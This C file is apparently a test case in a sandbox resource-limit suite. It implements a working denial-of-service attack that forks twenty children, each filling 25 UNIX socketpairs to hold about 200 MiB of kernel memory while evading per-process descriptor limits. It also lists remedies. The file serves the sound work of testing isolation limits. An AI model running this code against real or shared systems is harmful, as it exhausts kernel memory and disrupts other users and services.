// SPDX-License-Identifier: MIT
/*
 * socket-family.c - a memory bomb inside the kernel, within everybody's number of descriptors.
 *
 * Goal: more memory than the budget.
 * Means: RLIMIT_NOFILE is each process's own. Twenty children with 25 socket pairs each, both
 * directions full, hold some 200 MiB that no process has in its size, and none has 64 descriptors.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <signal.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

enum { CHILDREN = 20, PAIRS = 25, LETTER = 32768 };

static void fill(int end)
{
	static char letter[LETTER];

	while (send(end, letter, sizeof(letter), MSG_DONTWAIT) > 0)
		continue;
}

/* Never returns: who ends gives the memory back. */
static void hoard(void)
{
	int pair[2];

	for (int i = 0; i < PAIRS; i++) {
		if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
			_exit(errno);
		fill(pair[0]);
		fill(pair[1]);
	}
	sleep(5);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	pid_t child[CHILDREN];
	int n = 0, status;
	enum claim claim;

	attempting(b);
	while (n < CHILDREN && (child[n] = fork()) >= 0)
		if (child[n++] == 0)
			hoard();
	claim = n < CHILDREN ? denied("fork") : hold();
	if (waitpid(-1, &status, WNOHANG) > 0 && WIFEXITED(status)) {
		errno = WEXITSTATUS(status);
		claim = denied("socketpair");
	}
	for (int i = 0; i < n; i++)
		kill(child[i], SIGKILL);
	return claim;
}

const struct attack attack = {
	.effect = "more of the kernel's memory than the budget",
	.means = "twenty children with 25 full socketpairs each: no limit adds them up",
	.oracle = "usage:memory",
	.threshold = 128 << 20, /* two thirds of what fits within 64 descriptors each */
	.attack_id = "T1499.001, CWE-770",
	.remedy = "count the socketpairs of all processes; deny fork; a memory cgroup",
	.refs = (const char *const[]){ "unix(7)", "setrlimit(2): RLIMIT_NOFILE", NULL },
	.run = run,
};
